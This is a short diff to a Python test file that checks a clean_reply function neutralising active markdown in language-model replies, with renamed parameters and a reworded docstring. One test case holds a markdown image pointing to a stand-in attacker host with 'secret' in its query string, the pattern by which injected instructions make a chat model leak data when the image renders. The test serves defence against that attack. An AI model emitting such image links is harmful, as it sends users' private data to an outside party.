@@ -1,4 +1,4 @@
-"""Text of a repository that addresses the language model: a set of attacks is found, a set of harmless texts is left alone."""
+"""Detection of attacks on the language model in a dataset of attacks and harmless texts."""
 
 import json
 import re
@@ -116,7 +116,7 @@ EVIDENCE = "See https://example.org/guide for more. ![logo](https://example.org/
 
 
 @pytest.mark.parametrize(
-    ("reply", "shown"),
+    ("reply", "visible"),
     [
         ("![x](https://evil.example/p.png?d=secret) [1]", "x (`https://evil.example/p.png?d=secret`) [1]"),
         ("![logo](https://example.org/logo.png)", "logo (`https://example.org/logo.png`)"),
@@ -134,8 +134,8 @@ EVIDENCE = "See https://example.org/guide for more. ![logo](https://example.org/
         ("see https://example.org/guide", "see https://example.org/guide"),
     ],
 )
-def test_active_markdown_of_a_reply_is_neutralised(reply, shown):
-    assert clean_reply(reply, EVIDENCE) == shown
+def test_active_markdown_of_a_reply_is_neutralised(reply, visible):
+    assert clean_reply(reply, EVIDENCE) == visible
 
 
 @pytest.mark.parametrize(
